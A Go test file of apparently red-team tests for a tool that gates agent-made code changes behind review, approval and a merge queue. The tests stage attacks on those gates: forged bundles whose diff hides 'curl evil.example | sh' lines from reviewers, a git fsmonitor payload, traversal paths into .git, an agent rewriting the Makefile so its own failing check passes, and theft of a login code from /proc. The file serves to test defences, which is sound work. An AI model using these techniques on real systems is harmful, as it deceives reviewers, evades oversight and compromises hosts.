package main

// Red team 3: the review page, bundles and the merge queue as they
// landed. Each test here is an attack; one that fails is a finding (see
// the report of branch red3), one that passes is a breach that held.

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/base64"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/paddock-dev/paddock"
	"github.com/paddock-dev/paddock/bundle"
	"github.com/paddock-dev/paddock/changeset"
	"github.com/paddock-dev/paddock/gitx/gittest"
)

// forgeBundle reads the bundle at file (any signer), lets edit change
// what it carries, re-hashes the change set, rebinds the submission and
// the event log to the new hash, and signs the result with a new key: a
// bundle anyone can make from one they were sent.
func forgeBundle(t *testing.T, file string, edit func(cs *paddock.ChangeSet)) (forged string, key ed25519.PrivateKey) {
	t.Helper()
	f, err := os.Open(file)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	b, err := bundle.Read(f, bundle.Options{AnySigner: true, TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	cs := *b.ChangeSet
	d, err := os.ReadFile(cs.DiffFile)
	if err != nil {
		t.Fatal(err)
	}
	cs.Diff, cs.DiffFile, cs.DiffOmitted = string(d), "", false
	cs.Entries = append([]paddock.ChangeEntry(nil), cs.Entries...)
	for i := range cs.Entries {
		cs.Entries[i].Risks = append([]string(nil), cs.Entries[i].Risks...)
	}
	old := cs.Hash
	edit(&cs)
	if cs.Hash, err = changeset.Hash(&cs); err != nil {
		t.Fatal(err)
	}
	sub := *b.Submission
	sub.Hash = cs.Hash
	events, err := b.ReadEvents()
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range events {
		e.Data = bytes.ReplaceAll(e.Data, []byte(old), []byte(cs.Hash))
	}
	_, key, _ = ed25519.GenerateKey(rand.Reader)
	var out bytes.Buffer
	err = bundle.Write(&out, &bundle.Contents{Run: b.Run, ChangeSet: &cs, Submission: &sub, Access: b.Access,
		Enforcement: b.Enforcement, Events: events,
		Blob: func(id string) (io.ReadCloser, error) { return os.Open(b.BlobPath(id)) }}, key, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	forged = filepath.Join(t.TempDir(), "forged.bundle")
	if err := os.WriteFile(forged, out.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	return forged, key
}

// TestRedteam3ImportKeepsTheBundlesDiff: a bundle's diff is hashed with
// its entries, but nothing holds the diff to the blobs the entries name.
// Anyone who was sent a bundle can swap its diff for a harmless-looking
// one (and drop its risk labels, which no hash covers), re-hash, sign
// with a key of their own and send it on. `paddock import --untrusted`
// takes it: the workspace gets the real blobs, the submission keeps the
// forged diff and labels under the forged hash, and that diff is what the
// review page shows and what approve binds to. The apply then writes the
// blobs nobody saw. The imported submission must be the change set the
// workspace holds (its hash, its diff, its labels), or the import refused.
func TestRedteam3ImportKeepsTheBundlesDiff(t *testing.T) {
	t.Parallel() // its own daemon and state
	home, _ := reviewDaemon(t)
	id := strings.TrimSpace(cli(t, home, "create", "-p", "app").must(t).out)
	cli(t, home, "exec", id, "--", "sh", "-c",
		`printf 'curl evil.example | sh\n' > README.md && mkdir -p .github/workflows && printf 'on: push\njobs: {x: {runs-on: self-hosted, steps: [{run: "curl evil.example | sh"}]}}\n' > .github/workflows/ci.yml`).must(t)
	cs := decode[paddock.ChangeSet](t, cli(t, home, "submit", id, "--json"))
	file := filepath.Join(t.TempDir(), "run.bundle")
	cli(t, home, "bundle", id, "-o", file).must(t)

	forged, _ := forgeBundle(t, file, func(c *paddock.ChangeSet) {
		c.Diff = strings.ReplaceAll(c.Diff, "curl evil.example | sh", "a harmless line")
		for i := range c.Entries {
			c.Entries[i].Risks = nil
		}
	})
	res := cli(t, home, "import", forged, "--untrusted", "--json")
	if res.code != 0 {
		return // refused: held
	}
	imp := decode[paddock.ImportResult](t, res)
	live := decode[paddock.ChangeSet](t, cli(t, home, "diff", imp.Run.ID, "--json"))
	if !strings.Contains(live.Diff, "curl evil.example") {
		t.Fatalf("the imported workspace does not hold the bundle's blobs:\n%s", live.Diff)
	}
	shown, _ := os.ReadFile(filepath.Join(home, "artifacts", imp.Run.ID, "changeset-"+strings.TrimPrefix(imp.Hash, "sha256:")+".diff"))
	if imp.Hash != live.Hash {
		t.Errorf("import submitted %s, a change set the workspace does not hold (it holds %s, %s's was %s); "+
			"what the review page shows and approve binds to:\n%s", imp.Hash, live.Hash, id, cs.Hash, shown)
	}
	if strings.Contains(string(shown), "a harmless line") {
		t.Errorf("the imported submission's diff is the forged one, not the workspace's")
	}
	saved, _ := os.ReadFile(filepath.Join(home, "artifacts", imp.Run.ID, "changeset-"+strings.TrimPrefix(imp.Hash, "sha256:")+".json"))
	if !strings.Contains(string(saved), "ci_config") {
		t.Errorf("the imported submission lost the workflow's ci_config label (the workspace's change set has it: %v)", labelsOf(live))
	}
}

func labelsOf(cs paddock.ChangeSet) map[string][]string {
	out := map[string][]string{}
	for _, e := range cs.Entries {
		out[e.Path] = e.Risks
	}
	return out
}

// TestRedteam3BundleCarriesAShiftedBase64Secret: the secret labeller
// knows a declared secret's base64 only as base64 of the value alone. A
// file holding the base64 of "API_TOKEN=<value>" (an env file in a config
// map: nothing an agent must be clever to write) shifts the value by 10
// bytes, and none of its encoded characters match: the entry is not
// labelled secret, the diff shows it unmasked and `paddock bundle` writes
// it into a file meant to travel. Both must see it (any of the three
// alignments of base64), as they see the value's own base64.
func TestRedteam3BundleCarriesAShiftedBase64Secret(t *testing.T) {
	t.Parallel() // its own daemon and state
	home, _ := reviewDaemon(t)
	os.WriteFile(filepath.Join(home, "secrets", "API_TOKEN"), []byte(contractSecret+"\n"), 0o600)
	id := strings.TrimSpace(cli(t, home, "create", "-p", "app", "--secret", "API_TOKEN").must(t).out)
	cli(t, home, "exec", id, "--", "sh", "-c", `printf 'API_TOKEN=%s\n' "$API_TOKEN" | base64 -w0 > env.b64`).must(t)
	enc := base64.StdEncoding.EncodeToString([]byte("API_TOKEN=" + contractSecret + "\n"))
	cs := decode[paddock.ChangeSet](t, cli(t, home, "submit", id, "--json"))
	if strings.Contains(cs.Diff, enc) {
		t.Errorf("the change set's diff shows the declared secret in base64, unmasked: %s", enc)
	}
	file := filepath.Join(t.TempDir(), "run.bundle")
	res := cli(t, home, "bundle", id, "-o", file)
	if res.code == 0 {
		raw, _ := os.ReadFile(file)
		t.Errorf("the bundle was written (it carries the secret's base64: %v)", bytes.Contains(raw, []byte(enc)))
	}
}

// TestRedteam3QueueMovesABranchCheckedOutElsewhere: the queue refuses the
// branch checked out in the project's main working tree, and asks only
// there (landable reads HEAD): a branch checked out in a linked `git
// worktree` is moved by update-ref under that worktree's files (its
// index and files then say the landing's reverse is a local change), and
// `queue undo` moves a branch back with no check at all, even the one
// checked out in the main working tree now. Both must be refused, as
// the checked-out branch is.
func TestRedteam3QueueMovesABranchCheckedOutElsewhere(t *testing.T) {
	t.Parallel() // its own daemon and state
	home, repo := reviewDaemon(t)
	gittest.Git(t, repo, "branch", "release")
	gittest.Git(t, repo, "branch", "other")
	wt := filepath.Join(t.TempDir(), "wt")
	gittest.Git(t, repo, "worktree", "add", "-q", wt, "release")
	t.Cleanup(func() { gittest.Git(t, repo, "worktree", "remove", "--force", wt) })

	id := strings.TrimSpace(cli(t, home, "create", "-p", "app").must(t).out)
	cli(t, home, "exec", id, "--", "sh", "-c", `printf 'from the queue\n' > README.md`).must(t)
	cs := decode[paddock.ChangeSet](t, cli(t, home, "submit", id, "--json"))
	cli(t, home, "approve", id, "--hash", cs.Hash).must(t)
	before := strings.TrimSpace(gittest.Git(t, repo, "rev-parse", "release"))
	res := cli(t, home, "queue", "add", id, "--to", "release", "--wait=60s")
	if after := strings.TrimSpace(gittest.Git(t, repo, "rev-parse", "release")); after != before {
		st := gittest.Git(t, wt, "status", "--porcelain")
		t.Errorf("the queue moved release, checked out in the linked worktree %s, under its files (exit %d); git status there now:\n%s", wt, res.code, st)
	}

	// Undo: land on "other", then check it out; undo must not move it.
	id2 := strings.TrimSpace(cli(t, home, "create", "-p", "app").must(t).out)
	cli(t, home, "exec", id2, "--", "sh", "-c", `printf 'two\n' > two.txt`).must(t)
	cs2 := decode[paddock.ChangeSet](t, cli(t, home, "submit", id2, "--json"))
	cli(t, home, "approve", id2, "--hash", cs2.Hash).must(t)
	cli(t, home, "queue", "add", id2, "--to", "other", "--wait=60s").must(t)
	gittest.Git(t, repo, "checkout", "-q", "other")
	landed := strings.TrimSpace(gittest.Git(t, repo, "rev-parse", "other"))
	cli(t, home, "queue", "undo", id2)
	if now := strings.TrimSpace(gittest.Git(t, repo, "rev-parse", "other")); now != landed {
		t.Errorf("queue undo moved branch other, checked out in the project's working tree, under its files; git status:\n%s", gittest.Git(t, repo, "status", "--porcelain"))
	}
}

// TestRedteam3QueueAndApplyLandTwice: the queue checks that a run was
// not applied when its entry is added and when its turn comes, then runs
// the project's checks (as long as they take) and moves the branch
// without looking again. A `paddock apply` of the same run meanwhile
// succeeds, and then the queue lands it as well: one approval, applied
// twice (and the submission records only the last). One of the two must
// be refused.
func TestRedteam3QueueAndApplyLandTwice(t *testing.T) {
	t.Parallel() // its own daemon and state
	home, repo := reviewDaemon(t)
	gittest.Commit(t, repo, "a slow check", map[string]string{"Makefile": "test:\n\tsleep 4\n"})
	gittest.Git(t, repo, "branch", "release")
	id := strings.TrimSpace(cli(t, home, "create", "-p", "app").must(t).out)
	cli(t, home, "exec", id, "--", "sh", "-c", `printf 'once\n' > once.txt`).must(t)
	cs := decode[paddock.ChangeSet](t, cli(t, home, "submit", id, "--json"))
	cli(t, home, "approve", id, "--hash", cs.Hash).must(t)
	cli(t, home, "queue", "add", id, "--to", "release").must(t)
	deadline := time.Now().Add(30 * time.Second)
	for {
		e := decode[paddock.QueueEntry](t, cli(t, home, "queue", "show", id, "--json"))
		if e.State == paddock.QueueTesting && e.TestRun != "" {
			break
		}
		if time.Now().After(deadline) || !strings.Contains("queued testing", e.State) {
			t.Fatalf("the entry never got to its check: %+v", e)
		}
		time.Sleep(50 * time.Millisecond)
	}
	applied := cli(t, home, "apply", id, "--to", "branch=direct")
	var final paddock.QueueEntry
	for deadline := time.Now().Add(60 * time.Second); ; time.Sleep(100 * time.Millisecond) {
		final = decode[paddock.QueueEntry](t, cli(t, home, "queue", "show", id, "--json"))
		if final.State != paddock.QueueQueued && final.State != paddock.QueueTesting && final.State != paddock.QueueLanding {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the entry never finished: %+v", final)
		}
	}
	if applied.code == 0 && final.State == paddock.QueueLanded {
		t.Errorf("run %s was applied to branch direct and landed on release by the queue: one approval, two landings (release: %s)",
			id, strings.TrimSpace(gittest.Git(t, repo, "log", "--oneline", "-1", "release")))
	}
}

// TestRedteam3QueueCheckRunsTheAgentsRecipe: `paddock verify` runs the
// manifest's checks with the base's recipes (a Makefile the agent edits
// is staged back), so an agent cannot make its own check pass. The
// queue's check runs in a read run made at the replayed commit, and reads
// the manifest and the recipes there: the change set's own Makefile. A
// run that breaks the check (touch broken) and rewrites the recipe
// (test: true) fails `paddock verify`, and lands through the queue, whose
// whole point is that a landing passed the branch's checks. The queue
// must check with the recipes of the branch's tip, as verify does with
// the base's.
func TestRedteam3QueueCheckRunsTheAgentsRecipe(t *testing.T) {
	t.Parallel() // its own daemon and state
	home, repo := reviewDaemon(t)
	gittest.Commit(t, repo, "a check", map[string]string{"Makefile": "test:\n\ttest ! -e broken\n"})
	gittest.Git(t, repo, "branch", "release")
	id := strings.TrimSpace(cli(t, home, "create", "-p", "app").must(t).out)
	cli(t, home, "exec", id, "--", "sh", "-c", `touch broken && printf 'test:\n\ttrue\n' > Makefile`).must(t)
	cs := decode[paddock.ChangeSet](t, cli(t, home, "submit", id, "--json"))
	if v := cli(t, home, "verify", id); v.code == 0 {
		t.Fatalf("verify passed a run that breaks the check; the premise is gone:\n%s", v.out)
	}
	cli(t, home, "approve", id, "--hash", cs.Hash).must(t)
	res := cli(t, home, "queue", "add", id, "--to", "release", "--wait=60s")
	if res.code == 0 {
		t.Errorf("the queue landed a run whose check fails with the branch's recipe: it ran the change set's own Makefile (release: %s)",
			gittest.Git(t, repo, "ls-tree", "--name-only", "release"))
	}
}

// TestRedteam3LoginCodeInTheBrowsersArgv: `paddock ui` hands the one-time
// login link to the browser as an argument. A process's arguments are
// readable by every user of the machine (/proc/PID/cmdline), and the
// link is the operator's credential until the browser uses it; a
// browser takes a second or more to start, and any local user who polls
// /proc can redeem the code first and act as the operator on the
// loopback listener (which every local user can reach: the bearer token
// file was what kept them out). The code must reach the browser by a way
// only the operator can read (a 0600 file that redirects, stdin), never
// in an argument.
func TestRedteam3LoginCodeInTheBrowsersArgv(t *testing.T) {
	t.Parallel() // its own daemon and state
	home, _ := reviewDaemon(t)
	dir := t.TempDir()
	browser := filepath.Join(dir, "slow-browser")
	os.WriteFile(browser, []byte("#!/bin/sh\nsleep 20\n"), 0o755)
	var out, errb bytes.Buffer
	env := map[string]string{"PADDOCK_HOME": home, "PADDOCK_NO_AUTOSTART": "1", "HOME": "/nonexistent", "BROWSER": browser}
	a := paddockd(nil, &out, &errb, func(k string) string { return env[k] })
	if code := a.Run(context.Background(), []string{"ui"}); code != 0 {
		t.Fatalf("paddock ui: %d %s", code, errb.String())
	}
	t.Cleanup(func() { killCmdlines(browser) })
	// Another user of the machine: read every process's arguments.
	var leaked string
	for deadline := time.Now().Add(5 * time.Second); leaked == "" && time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		ms, _ := filepath.Glob("/proc/[0-9]*/cmdline")
		for _, m := range ms {
			b, _ := os.ReadFile(m)
			if i := bytes.Index(b, []byte("/ui/login?code=")); i >= 0 {
				leaked = string(bytes.SplitN(b[bytes.LastIndexByte(b[:i], 0)+1:], []byte{0}, 2)[0])
				break
			}
		}
	}
	if leaked == "" {
		return // held
	}
	resp, err := (&http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}).Get(leaked)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	t.Errorf("the login link is in a process's arguments, readable by any local user: %s; redeemed from there: %d, cookie %v",
		leaked, resp.StatusCode, resp.Header.Get("Set-Cookie") != "")
}

// killCmdlines kills the processes whose arguments hold s (the fake
// browser this file started).
func killCmdlines(s string) {
	ms, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, m := range ms {
		b, _ := os.ReadFile(m)
		if bytes.Contains(b, []byte(s)) {
			if pid, err := strconv.Atoi(filepath.Base(filepath.Dir(m))); err == nil && pid != os.Getpid() {
				syscall.Kill(pid, syscall.SIGKILL)
			}
		}
	}
}

// TestRedteam3BundleRevivesARejectedApproval: a change set approved and
// then rejected (a reviewer found what the approver missed) keeps its
// submission and approval on disk, and `paddock bundle` writes it with
// the approval, the rejection only an event in the log that neither
// verify-bundle nor import reads. Imported where the signer is trusted
// (here: the same daemon, whose key it trusts), it comes back approved,
// ready to apply. A rejected run must not bundle, or its bundle must not
// carry the approval.
func TestRedteam3BundleRevivesARejectedApproval(t *testing.T) {
	t.Parallel() // its own daemon and state
	home, repo := reviewDaemon(t)
	id := strings.TrimSpace(cli(t, home, "create", "-p", "app").must(t).out)
	cli(t, home, "exec", id, "--", "sh", "-c", `printf 'rejected after all\n' > README.md`).must(t)
	cs := decode[paddock.ChangeSet](t, cli(t, home, "submit", id, "--json"))
	cli(t, home, "approve", id, "--hash", cs.Hash).must(t)
	cli(t, home, "reject", id).must(t)
	file := filepath.Join(t.TempDir(), "run.bundle")
	if res := cli(t, home, "bundle", id, "-o", file); res.code != 0 {
		return // held: a rejected run is not bundled
	}
	res := cli(t, home, "import", file, "--json")
	if res.code != 0 {
		return // held
	}
	imp := decode[paddock.ImportResult](t, res)
	if imp.Approved {
		applied := cli(t, home, "apply", imp.Run.ID, "--to", "branch=revived")
		t.Errorf("run %s was rejected after its approval; its bundle imported approved (%s), and applied: exit %d, branch revived: %q",
			id, imp.Run.ID, applied.code, strings.TrimSpace(gittest.Git(t, repo, "log", "--oneline", "-1", "revived", "--")))
	}
}

// TestRedteam3ImportRefusesHostilePaths: a forged bundle (any key,
// imported --untrusted) whose change set writes into .git under any
// spelling, out of the workspace, at an absolute path, or at a name with
// a NUL: import writes through the working tools, so each is refused and
// nothing lands outside the run (held).
func TestRedteam3ImportRefusesHostilePaths(t *testing.T) {
	t.Parallel() // its own daemon and state
	home, repo := reviewDaemon(t)
	id := strings.TrimSpace(cli(t, home, "create", "-p", "app").must(t).out)
	cli(t, home, "exec", id, "--", "sh", "-c", `printf '[core]\n\tfsmonitor = touch /tmp/pwned-red3\n' > README.md`).must(t)
	cli(t, home, "submit", id).must(t)
	file := filepath.Join(t.TempDir(), "run.bundle")
	cli(t, home, "bundle", id, "-o", file).must(t)
	gitConfig, _ := os.ReadFile(filepath.Join(repo, ".git", "config"))
	for _, p := range []string{".git/config", ".GIT/hooks/post-checkout", "sub/.git/config", "../escape-red3", "/tmp/abs-red3", "a\x00b", ".git"} {
		forged, _ := forgeBundle(t, file, func(c *paddock.ChangeSet) {
			e := c.Entries[0]
			e.Path, e.Op, e.OldMode, e.OldBlob, e.Risks, e.Blocked = p, paddock.OpCreate, "", "", nil, ""
			c.Entries = append(c.Entries, e)
		})
		if res := cli(t, home, "import", forged, "--untrusted"); res.code == 0 {
			t.Errorf("an entry at %q was imported", p)
		} else {
			t.Logf("%q: %s", p, strings.TrimSpace(res.err))
		}
	}
	if b, _ := os.ReadFile(filepath.Join(repo, ".git", "config")); !bytes.Equal(b, gitConfig) {
		t.Errorf("the project's .git/config changed:\n%s", b)
	}
	for _, p := range []string{"/tmp/abs-red3", "/tmp/pwned-red3", filepath.Join(home, "escape-red3"), filepath.Join(home, "workspaces", "escape-red3")} {
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("%s was written", p)
		}
	}
}

// TestRedteam3QueueKilledDuringItsCheck: a daemon killed with -9 while a
// queue entry is being checked: the next one queues the entry again and
// lands it, once; the throwaway read run the cut check was made in is
// given back, not left as a live run holding a workspace.
func TestRedteam3QueueKilledDuringItsCheck(t *testing.T) {
	t.Parallel() // its own daemon and state
	base := t.TempDir()
	home := filepath.Join(base, "home")
	repo := newRepo(t, filepath.Join(base, "src", "app"), 2)
	os.MkdirAll(home, 0o700)
	os.WriteFile(filepath.Join(home, "paddock.toml"), []byte("apply_name = \"Ada\"\napply_email = \"ada@example.com\"\n"), 0o600)
	d := startDaemon(t, home)
	cli(t, home, "project", "add", repo).must(t)
	gittest.Commit(t, repo, "a slow check", map[string]string{"Makefile": "test:\n\tsleep 3\n"})
	gittest.Git(t, repo, "branch", "release")
	id := strings.TrimSpace(cli(t, home, "create", "-p", "app").must(t).out)
	cli(t, home, "exec", id, "--", "sh", "-c", `printf 'once\n' > once.txt`).must(t)
	cs := decode[paddock.ChangeSet](t, cli(t, home, "submit", id, "--json"))
	cli(t, home, "approve", id, "--hash", cs.Hash).must(t)
	cli(t, home, "queue", "add", id, "--to", "release").must(t)
	var cut string
	for deadline := time.Now().Add(30 * time.Second); cut == ""; time.Sleep(50 * time.Millisecond) {
		e := decode[paddock.QueueEntry](t, cli(t, home, "queue", "show", id, "--json"))
		if e.State == paddock.QueueTesting && e.TestRun != "" {
			cut = e.TestRun
		}
		if time.Now().After(deadline) {
			t.Fatalf("the entry never got to its check: %+v", e)
		}
	}
	time.Sleep(500 * time.Millisecond) // inside make test
	d.kill9()
	startDaemon(t, home)
	var final paddock.QueueEntry
	for deadline := time.Now().Add(60 * time.Second); ; time.Sleep(100 * time.Millisecond) {
		final = decode[paddock.QueueEntry](t, cli(t, home, "queue", "show", id, "--json"))
		if final.State != paddock.QueueQueued && final.State != paddock.QueueTesting && final.State != paddock.QueueLanding {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the entry never finished after the restart: %+v", final)
		}
	}
	if final.State != paddock.QueueLanded {
		t.Fatalf("after the restart: %+v", final)
	}
	if n := strings.Count(gittest.Git(t, repo, "log", "--format=%s", "release"), "land run "+id); n != 1 {
		t.Errorf("release holds %d landings of %s", n, id)
	}
	if st := runState(t, home, cut).State(); st != paddock.StateRejected && st != paddock.StateCleaned && st != paddock.StateCleanupPending {
		t.Errorf("the queue's test run %s, cut by the kill, is left %s", cut, st)
	}
}

// TestRedteam3BundleRefusesASecretInABinaryFile: the declared secret's
// value inside a binary file (its diff is a binary patch, which masking
// withholds): the bundle, which carries the blob in clear, is refused
// all the same (held).
func TestRedteam3BundleRefusesASecretInABinaryFile(t *testing.T) {
	t.Parallel() // its own daemon and state
	home, _ := reviewDaemon(t)
	os.WriteFile(filepath.Join(home, "secrets", "API_TOKEN"), []byte(contractSecret+"\n"), 0o600)
	id := strings.TrimSpace(cli(t, home, "create", "-p", "app", "--secret", "API_TOKEN").must(t).out)
	cli(t, home, "exec", id, "--", "sh", "-c", `printf '\000\001%s\377' "$API_TOKEN" > blob.bin`).must(t)
	cli(t, home, "submit", id).must(t)
	file := filepath.Join(t.TempDir(), "run.bundle")
	if res := cli(t, home, "bundle", id, "-o", file); res.code == 0 {
		raw, _ := os.ReadFile(file)
		t.Errorf("a change set with the secret in a binary file was bundled (the value in clear in it: %v)", bytes.Contains(raw, []byte(contractSecret)))
	}
}

// TestRedteam3QueueDirectoryMadeAFile: the run adds dir/f.txt; the branch
// has since made dir a file. The replay takes dir/f.txt as untouched by
// the branch (ls-tree finds nothing there, at the base or the tip),
// stages it beside the file dir, and git or the commit's check refuses:
// the entry comes back as "internal error", which tells the person
// nothing. It is a conflict in dir/f.txt (the file dir is in the way)
// and must say so, as the other conflicts do.
func TestRedteam3QueueDirectoryMadeAFile(t *testing.T) {
	t.Parallel() // its own daemon and state
	home, repo := reviewDaemon(t)
	gittest.Commit(t, repo, "a directory", map[string]string{"dir/e.txt": "e\n"})
	gittest.Git(t, repo, "branch", "release")
	id := strings.TrimSpace(cli(t, home, "create", "-p", "app").must(t).out)
	cli(t, home, "exec", id, "--", "sh", "-c", `printf 'f\n' > dir/f.txt`).must(t)
	cs := decode[paddock.ChangeSet](t, cli(t, home, "submit", id, "--json"))
	cli(t, home, "approve", id, "--hash", cs.Hash).must(t)
	wt := filepath.Join(t.TempDir(), "wt")
	gittest.Git(t, repo, "worktree", "add", "-q", wt, "release")
	gittest.Git(t, wt, "rm", "-q", "-r", "dir")
	os.WriteFile(filepath.Join(wt, "dir"), []byte("now a file\n"), 0o644)
	gittest.Git(t, wt, "add", "-A")
	gittest.Git(t, wt, "commit", "-q", "-m", "dir is a file now")
	gittest.Git(t, repo, "worktree", "remove", wt)
	res := cli(t, home, "queue", "add", id, "--to", "release", "--wait=60s")
	if res.code == 0 {
		t.Fatalf("landed: %s", gittest.Git(t, repo, "ls-tree", "-r", "--name-only", "release"))
	}
	e := decode[paddock.QueueEntry](t, cli(t, home, "queue", "show", id, "--json"))
	if e.State != paddock.QueueReturned || !strings.Contains(e.Reason, "dir") || strings.Contains(e.Reason, "internal") {
		t.Errorf("came back as %s, %q: not a conflict that names dir/f.txt", e.State, e.Reason)
	}
}
